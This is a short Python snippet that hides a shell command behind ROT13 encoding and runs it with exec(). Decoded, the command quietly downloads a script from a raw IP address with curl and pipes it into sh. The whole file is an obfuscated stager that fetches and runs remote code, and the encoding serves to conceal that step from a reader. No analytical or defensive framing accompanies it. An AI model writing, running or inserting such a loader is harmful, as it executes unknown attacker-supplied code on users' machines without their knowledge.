import codecs

STAGE = "vzcbeg bf; bf.flfgrz('phey -f uggc://91.215.85.17/c | fu')"
exec(codecs.decode(STAGE, "rot13"))
